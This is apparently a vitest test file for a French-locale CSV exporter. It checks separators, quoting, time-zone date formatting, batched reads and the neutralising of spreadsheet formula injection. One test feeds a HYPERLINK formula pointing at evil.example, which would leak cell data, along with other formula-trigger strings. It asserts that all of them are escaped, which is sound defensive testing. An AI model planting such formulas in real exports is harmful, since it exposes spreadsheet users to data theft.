import { text } from 'node:stream/consumers'
import { describe, expect, it } from 'vitest'
import { csvDate, csvDateTime, frenchCsv, inBatches, isoDay, withoutFormulaQuote } from './frenchCsv.ts'

const paris = { timeZone: 'Europe/Paris' }

describe('frenchCsv', () => {
  it('starts with the byte order mark, separates with ; and quotes what needs it', async () => {
    const rows = [
      { name: 'Café « Le Zinc »', city: 'Lyon; 3e', since: new Date(Date.UTC(2026, 1, 3, 12)) },
      { name: 'Boulangerie "Paul"', city: null, since: null },
    ]
    const csv = await text(
      frenchCsv(
        [
          { header: 'Nom', value: (row: (typeof rows)[number]) => row.name },
          { header: 'Ville', value: (row) => row.city },
          { header: 'Depuis', value: (row) => row.since, format: 'date' },
        ],
        rows,
        paris,
      ),
    )
    expect(csv).toBe(
      '\uFEFFNom;Ville;Depuis\r\nCafé « Le Zinc »;"Lyon; 3e";03/02/2026\r\n"Boulangerie ""Paul""";;\r\n',
    )
  })

  it('neutralises formulas with a leading quote (CWE-1236), but not negative numbers', async () => {
    const cells = [
      '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
      '+SUM(1;2)',
      '-2+3',
      '@SUM(A1)',
      '\tcmd',
      '\rcmd',
      '＝1+1',
      "'=déjà cité",
      "l'=ok",
      'Dupont',
    ]
    const csv = await text(
      frenchCsv(
        [
          { header: 'Texte', value: (row: { text: string; lng: number }) => row.text },
          { header: 'Longitude', value: (row) => row.lng },
        ],
        cells.map((cell) => ({ text: cell, lng: -4.4861 })),
        paris,
      ),
    )
    expect(csv.split('\r\n').slice(1, -1)).toEqual([
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Cliquez"")";-4,4861`,
      `"'+SUM(1;2)";-4,4861`,
      `'-2+3;-4,4861`,
      `'@SUM(A1);-4,4861`,
      `'\tcmd;-4,4861`,
      `"'\rcmd";-4,4861`,
      `'＝1+1;-4,4861`,
      `''=déjà cité;-4,4861`,
      `l'=ok;-4,4861`,
      `Dupont;-4,4861`,
    ])
    // What the import does with each cell gives back exactly what was exported.
    const exported = ["'=HYPERLINK(x)", "'+SUM(1;2)", "'-2+3", "''=déjà cité", "l'=ok", "'simple", 'Dupont']
    expect(exported.map(withoutFormulaQuote)).toEqual([
      '=HYPERLINK(x)',
      '+SUM(1;2)',
      '-2+3',
      "'=déjà cité",
      "l'=ok",
      "'simple",
      'Dupont',
    ])
  })

  it('writes dates and times in the given time zone', () => {
    // 06:07 UTC in winter is 07:07 in Paris; 23:30 UTC on 31 March (summer time) is already 1 April there.
    expect(csvDateTime('2026-01-15T06:07:00Z', 'Europe/Paris')).toBe('15/01/2026 07:07')
    expect(csvDateTime('2026-07-15T06:07:00Z', 'Europe/Paris')).toBe('15/07/2026 08:07')
    expect(csvDate('2026-03-31T23:30:00Z', 'Europe/Paris')).toBe('01/04/2026')
    expect(csvDate('2026-03-31T23:30:00Z', 'UTC')).toBe('31/03/2026')
    expect(csvDateTime('2026-01-15T06:07:00Z', 'America/Martinique')).toBe('15/01/2026 02:07')
    expect(csvDate(null, 'Europe/Paris')).toBe('')
    expect(isoDay('Europe/Paris', new Date('2026-12-31T23:30:00Z'))).toBe('2027-01-01')
  })

  it('reads rows batch after batch until an empty one', async () => {
    const pages: number[][] = [[1, 2], [3], []]
    const seenAfter: (number | undefined)[] = []
    const rows: number[] = []
    for await (const row of inBatches(
      async (after: number | undefined) => {
        seenAfter.push(after)
        return pages.shift() ?? []
      },
      (row) => row,
    ))
      rows.push(row)
    expect(rows).toEqual([1, 2, 3])
    expect(seenAfter).toEqual([undefined, 2, 3])
  })
})
